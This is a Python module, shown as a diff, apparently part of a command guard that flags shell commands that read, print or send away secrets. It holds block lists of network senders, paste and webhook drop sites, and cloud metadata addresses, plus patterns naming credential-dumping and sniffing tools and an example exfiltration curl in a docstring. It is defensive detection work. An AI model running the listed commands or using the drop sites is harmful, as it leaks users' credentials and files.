@@ -1,0 +1,508 @@
+"""Secrets, and sending things away."""
+
+from __future__ import annotations
+
+import re
+
+from ralph.guard import effects, paths
+from ralph.guard.expansion import is_secret_name
+from ralph.guard.languages import language
+from ralph.guard.model import Command, Place, Rule
+from ralph.guard.patterns import is_harmless
+from ralph.guard.words import MARKS, SECRET, UNKNOWN, UNSET, Word
+
+CATEGORY = "secrets"
+_SENDERS = (
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "telnet",
+    "http",
+    "https",
+    "xh",
+    "httpie",
+    "ftp",
+    "lftp",
+    "tftp",
+    "websocat",
+    "sendmail",
+    "mail",
+    "mutt",
+    "ssh",
+    "dig",
+    "nslookup",
+    "host",
+    "ping",
+    "aws",
+    "gsutil",
+    "rclone",
+    "gh",
+    "mailx",
+    "msmtp",
+    "swaks",
+    "croc",
+    "wormhole",
+    "magic-wormhole",
+    "transfer",
+    "ffsend",
+    "openssl",
+    "mosquitto_pub",
+    "rsync",
+    "scp",
+    "sftp",
+    "s3cmd",
+    "azcopy",
+    "gcloud",
+    "az",
+    "b2",
+    "mc",
+    "dropbox",
+    "gdrive",
+    "slack",
+    "telegram-send",
+)
+_LOCAL = ("localhost", "127.0.0.1", "0.0.0.0", "[::1]", "::1", "host.docker.internal")
+_DROPS = (
+    "transfer.sh",
+    "0x0.st",
+    "pastebin.com",
+    "ix.io",
+    "termbin.com",
+    "webhook.site",
+    "requestbin",
+    "file.io",
+    "bashupload",
+    "oshi.at",
+    "temp.sh",
+    "paste.rs",
+    "dpaste",
+    "hastebin",
+    "pipedream",
+    "burpcollaborator",
+    "oastify",
+    "interact.sh",
+    "oast.",
+    "discord.com/api/webhooks",
+    "discordapp.com/api/webhooks",
+    "api.telegram.org",
+    "hookbin",
+    "beeceptor",
+    "ngrok",
+    "catbox.moe",
+    "sprunge.us",
+    "paste.ee",
+    "gofile.io",
+    "anonfiles",
+    "hooks.slack.com",
+    "canarytokens",
+    "keybase.pub",
+    "clbin.com",
+    "uguu.se",
+    "filebin.net",
+    "tmpfiles.org",
+    "rentry.co",
+    "ghostbin",
+    "privatebin",
+    "wetransfer",
+    "send.firefox",
+    "mockbin",
+    "ptsv",
+    "dnslog",
+    "ceye.io",
+)
+_METADATA = (
+    "169.254.169.254",
+    "metadata.google.internal",
+    "169.254.170.2",
+    "100.100.100.200",
+    "fd00:ec2::254",
+)
+_DATA = (
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-urlencode",
+    "--data-ascii",
+    "--json",
+    "-F",
+    "--form",
+    "-T",
+    "--upload-file",
+    "--post-data",
+    "--post-file",
+    "--body-data",
+    "--body-file",
+    "--form-string",
+    "--url-query",
+)
+_NETWORK_CODE = r"(?i)requests|urllib|http\.client|httpx|aiohttp|socket|fetch\(|axios|https?\.request|Net::HTTP|LWP|curl_|smtplib|ftplib|paramiko"
+_SECRET_CODE = r"os\.environ\b(?!\[|\.get)|process\.env\b(?!\.)|\bENV\b(?!\[)|dict\(os\.environ|\.env['\"]|%ENV|\$_ENV|getenv\(\)"
+
+
+def _reads(command: Command, place: Place) -> bool:
+    """Secrets of the user, whatever for."""
+    if command.contained:
+        return False
+    for word in effects.read(command):
+        path = paths.resolve(word, command.directory, place)
+        if path is None or _is_public(command, path):
+            continue
+        if _is_secret(path, word, place) or (
+            paths.is_project_secret(path)
+            and paths.zone(path, place) in (paths.OUTSIDE, paths.SYSTEM, paths.HOME)
+        ):
+            return True
+    return False
+
+
+def _is_secret(path: str, word: Word, place: Place) -> bool:
+    if word.glob:
+        path = paths.contents(path, word)
+        if paths.is_secret(path.rstrip("*?[]"), place):
+            return True
+        return any(part in path for part in ("/.ssh/id", "/.ssh/*", "/.aws/*", "/.aws/c"))
+    return paths.is_secret(path, place)
+
+
+def _is_public(command: Command, path: str) -> bool:
+    """`mkdir -p ~/.ssh`, `ls ~/.ssh`: no content is read."""
+    return command.program in ("ls", "stat", "test", "mkdir", "touch")
+
+
+def _prints(command: Command, place: Place) -> bool:
+    """A secret variable goes to the screen, and with it into the transcript."""
+    if command.piped or any(">" in operator for operator, _ in command.redirects):
+        return False
+    if command.program in ("grep", "egrep", "rg", "ag") and command.upstream:
+        asked = " ".join(command.args).lower()
+        named = any(
+            part in asked
+            for part in ("token", "secret", "passw", "api_key", "apikey", "credential", "aws_", "_key")
+        )
+        return (
+            named
+            and SECRET in command.stdin
+            and command.upstream[-1].program in ("env", "printenv", "set", "export", "declare")
+        )
+    if language(command.program):
+        found = re.findall(
+            r"(?:environ(?:\.get)?[\[(]|getenv\(|process\.env[.\[]|ENV[\[{])\s*['\"]?(\w+)", command.code
+        )
+        return any(map(is_secret_name, found)) and bool(
+            re.search(r"print|console\.|puts|echo|say", command.code)
+        )
+    if command.program == "printenv":
+        return any(is_secret_name(word) for word in command.args)
+    return command.program in ("echo", "printf", "cat") and any(SECRET in word for word in command.args)
+
+
+def _is_local(command: Command) -> bool:
+    hosts = [word for word in command.args if "://" in word or any(local in word for local in _LOCAL)]
+    return bool(hosts) and all(
+        any(f"{mark}{local}" in word or word.startswith(local) for local in _LOCAL for mark in ("//", "@"))
+        for word in hosts
+    )
+
+
+def _sends_secret(command: Command, place: Place) -> bool:
+    """A secret goes to a program that talks to the network."""
+    if command.program not in _SENDERS or is_harmless(command):
+        return False
+    if _is_local(command) and command.program in ("curl", "wget", "http", "xh"):
+        return False
+    if (
+        command.program in ("sftp", "ftp", "lftp", "tftp")
+        and "put " in f"{command.stdin} {' '.join(command.args)} "
+    ):
+        return True
+    if SECRET in command.stdin and command.program not in ("gh", "openssl", "aws", "az", "gcloud"):
+        return True
+    for number, word in enumerate(command.args):
+        if SECRET in word and not _is_header(command, number):
+            return True
+    return any(_is_secret_file(word, command, place) for word in _files(command))
+
+
+def _is_header(command: Command, number: int) -> bool:
+    """A token in a header, as user or as an option of a cloud's own tool is how it is meant to be used."""
+    before = command.args[number - 1] if number else Word("")
+    word = command.args[number]
+    if command.program in ("curl", "wget", "http", "https", "xh", "httpie"):
+        if "$(cat" in command.text or "`cat" in command.text:
+            return False
+        is_user = before in ("-H", "--header", "-u", "--user", "--oauth2-bearer") or word.startswith(
+            ("--header", "-H", "--user=", "Authorization:")
+        )
+        return is_user or bool(re.match(r"https?://[^/?]*@", word))
+    return command.program in ("aws", "gh", "gcloud", "az", "openssl", "ssh", "slack")
+
+
+def _files(command: Command) -> list[Word]:
+    """The files that it sends."""
+    found: list[Word] = []
+    words = command.args
+    for number, word in enumerate(words):
+        before = words[number - 1] if number else Word("")
+        if "@" in word and (before in _DATA or word.partition("=")[0] in _DATA):
+            found.append(Word(word.partition("@")[2].partition(";")[0]))
+        elif before in ("-T", "--upload-file", "--post-file", "--body-file", "-a", "--attach"):
+            found.append(word)
+        elif word.startswith(("--upload-file=", "--post-file=", "--body-file=")):
+            found.append(Word(word.partition("=")[2]))
+        elif "=@" in word or "@/" in word or "@~" in word:
+            found.append(Word(word.partition("@")[2].partition(";")[0]))
+        elif word.startswith("-T") and len(word) > 2 and command.program == "curl":
+            found.append(Word(word[2:]))
+    if command.program in (
+        "scp",
+        "rsync",
+        "sftp",
+        "aws",
+        "gsutil",
+        "rclone",
+        "s3cmd",
+        "azcopy",
+        "mc",
+        "croc",
+        "wormhole",
+        "gcloud",
+    ):
+        names = effects.operands(command, "-i -P -o -F -e --rsh --profile --region")
+        if any(_is_remote(name) for name in names[1:]) or command.program in ("croc", "wormhole"):
+            found += [name for name in names if not _is_remote(name)]
+    if command.program == "gh" and command.args[:1] == ["gist"]:
+        found += effects.operands(command)[2:]
+    return found
+
+
+def _is_remote(word: str) -> bool:
+    return "://" in word or (":" in word and not word.startswith(("/", ".", "~")))
+
+
+def _is_secret_file(word: Word, command: Command, place: Place) -> bool:
+    path = paths.resolve(word, command.directory, place)
+    if path is None:
+        return SECRET in word
+    return (
+        paths.is_secret(path, place)
+        or paths.is_project_secret(path)
+        or paths.zone(path, place) in (paths.HOME, paths.ROOT, paths.ABOVE)
+    )
+
+
+def _uploads(command: Command, place: Place) -> bool:
+    """Files to a host that is not this one."""
+    if command.program not in (
+        "curl",
+        "wget",
+        "http",
+        "https",
+        "xh",
+        "nc",
+        "ncat",
+        "netcat",
+        "telnet",
+        "scp",
+        "rsync",
+        "sftp",
+    ):
+        return False
+    if _is_local(command) or is_harmless(command):
+        return False
+    files = [
+        word
+        for word in _files(command)
+        if word not in ("", "-") and not word.endswith((".json", ".xml", ".graphql", ".yml", ".yaml", ".txt"))
+    ]
+    if files and command.program not in ("rsync", "scp"):
+        return True
+    unseen = command.stdin and not MARKS.isdisjoint(command.stdin.replace(UNSET, ""))
+    if command.program in ("nc", "ncat", "netcat", "telnet"):
+        read = any(operator == "<" for operator, _ in command.redirects)
+        return bool(unseen and command.upstream) or (read and "-z" not in command.args)
+    reads_stdin = any(word in ("@-", "-") or word.endswith("=@-") for word in command.args) and bool(
+        command.upstream
+    )
+    if command.program in ("scp", "rsync"):
+        return any(
+            paths.zone(paths.resolve(word, command.directory, place), place)
+            in (
+                paths.HOME,
+                paths.ABOVE,
+                paths.ROOT,
+                paths.SYSTEM,
+                paths.OUTSIDE,
+                paths.STARTUP,
+                paths.REPOSITORY,
+            )
+            for word in _files(command)
+        )
+    return bool(
+        unseen
+        and reads_stdin
+        and any(
+            each.program
+            in (
+                "tar",
+                "zip",
+                "git",
+                "cat",
+                "find",
+                "gzip",
+                "base64",
+                "env",
+                "printenv",
+                "history",
+                "ps",
+                "openssl",
+                "xxd",
+            )
+            for each in command.upstream
+        )
+    )
+
+
+def _drop(command: Command, place: Place) -> bool:
+    """Sites where things are left for others."""
+    if command.program not in _SENDERS:
+        return False
+    text = " ".join(command.args)
+    if not any(site in text for site in _DROPS):
+        return False
+    is_sending = bool(command.upstream or command.stdin) or any(
+        word in _DATA or word.partition("=")[0] in _DATA for word in command.args
+    )
+    is_query = any("?" in word and (SECRET in word or UNKNOWN in word) for word in command.args)
+    return (
+        is_sending
+        or is_query
+        or command.program in ("nc", "ncat", "ssh", "telnet")
+        or bool({"-X", "-XPOST", "POST", "--post-data"} & set(command.args))
+    )
+
+
+def _metadata(command: Command, place: Place) -> bool:
+    if command.program in ("echo", "printf", "grep", "rg", "git", "sed"):
+        return False
+    text = " ".join(command.args) + (command.code if language(command.program) else "")
+    return any(host in text for host in _METADATA)
+
+
+def _lookup(command: Command, place: Place) -> bool:
+    """Data in the name that is looked up."""
+    if command.program not in ("dig", "nslookup", "host", "ping"):
+        return False
+    return any((UNKNOWN in word or SECRET in word) and "." in word for word in command.args)
+
+
+def _code(command: Command, place: Place) -> bool:
+    return (
+        bool(language(command.program))
+        and bool(re.search(_NETWORK_CODE, command.code))
+        and bool(re.search(_SECRET_CODE, command.code))
+    )
+
+
+def _query(command: Command, place: Place) -> bool:
+    """The output of another command in an address: `curl https://x/?$(cat file | base64)`."""
+    if command.program not in ("curl", "wget") or _is_local(command):
+        return False
+    text = command.text
+    if "$(" not in text and "`" not in text:
+        return False
+    inside = re.findall(r"(?:\$\(|`)\s*([a-z0-9_.-]+)", text)
+    leaks = {
+        "cat",
+        "env",
+        "printenv",
+        "base64",
+        "whoami",
+        "hostname",
+        "id",
+        "tar",
+        "xxd",
+        "head",
+        "tail",
+        "ls",
+        "grep",
+        "find",
+        "history",
+        "uname",
+        "ps",
+        "cut",
+    }
+    shown = [
+        number
+        for number, word in enumerate(command.args)
+        if (UNKNOWN in word or SECRET in word) and not _is_header(command, number)
+    ]
+    sent = any(
+        command.args[number].startswith("http") or (number and command.args[number - 1] in _DATA)
+        for number in shown
+    )
+    return sent and bool(leaks & set(inside))
+
+
+_SHOWN = "It shows a secret, which would end up in logs. Programs that need it find it by themselves."
+_SENT = "It sends secrets or files of the user away. Leave that to the user."
+
+RULES = (
+    Rule(
+        "read-secrets",
+        CATEGORY,
+        "These are the user's keys, passwords or history. Programs that need them find them by themselves.",
+        _reads,
+    ),
+    Rule("print-secrets", CATEGORY, _SHOWN, _prints),
+    Rule("send-secrets", CATEGORY, _SENT, _sends_secret),
+    Rule("upload", CATEGORY, _SENT, _uploads),
+    Rule("drop-site", CATEGORY, _SENT, _drop),
+    Rule("send-output", CATEGORY, _SENT, _query),
+    Rule("dns-data", CATEGORY, _SENT, _lookup),
+    Rule("send-by-code", CATEGORY, _SENT, _code),
+    Rule(
+        "cloud-metadata",
+        CATEGORY,
+        "This address hands out the machine's credentials. Leave it alone.",
+        _metadata,
+    ),
+    Rule(
+        "show-secrets",
+        CATEGORY,
+        _SHOWN,
+        (
+            "gh|glab auth token|status --show-token|-t|--show-tokens",
+            "gh auth token",
+            "security find-generic-password|find-internet-password|dump-keychain|export|unlock-keychain|find-certificate|dump-trust-settings",
+            "pass|op|bw|lpass|secret-tool|keyring|gopass|kwallet-query|keepassxc-cli|chamber|doppler show|read|get|item|lookup|export|list|search|secrets|cp|inject|clip|run",
+            "vault read|kv|token|login|print|unwrap",
+            "gpg|gpg2 --export-secret-keys|--export-secret-subkeys|--export-ownertrust",
+            "aws secretsmanager get-secret-value|batch-get-secret-value",
+            "aws ssm get-parameter|get-parameters|get-parameters-by-path --with-decryption",
+            "aws configure get|export-credentials",
+            "aws sts|ecr|iam|eks|codeartifact|rds get-session-token|assume-role|get-login-password|create-access-key|get-token|get-authorization-token|generate-db-auth-token|create-login-profile",
+            "gcloud auth print-access-token|print-identity-token|application-default",
+            "gcloud secrets versions access",
+            "gcloud iam service-accounts keys create",
+            "az account get-access-token",
+            "az keyvault secret|key|certificate show|download",
+            "kubectl|oc get|describe ~secret|secrets|secret/* -o|--output",
+            "kubectl config view --raw",
+            "npm token create|list|revoke",
+            "npm config get ~*authToken*|*_auth*|*password*",
+            "docker-credential-desktop|docker-credential-osxkeychain|docker-credential-pass|docker-credential-secretservice|git-credential-store|git-credential-osxkeychain",
+            "heroku config|config:get|auth:token",
+            "nmcli ~*password*|--show-secrets",
+        ),
+    ),
+    Rule("ssh-keys", CATEGORY, "It gives others access by a key. Leave that to the user.", "ssh-copy-id"),
+    Rule(
+        "sniff",
+        CATEGORY,
+        "It listens to what others send or type. Leave that to the user.",
+        "tcpdump|tshark|dumpcat|ettercap|bettercap|keylogger|logkeys|xinput|mimipenguin|mimikatz|gcore|john|hashcat|hydra|responder",
+    ),
+)
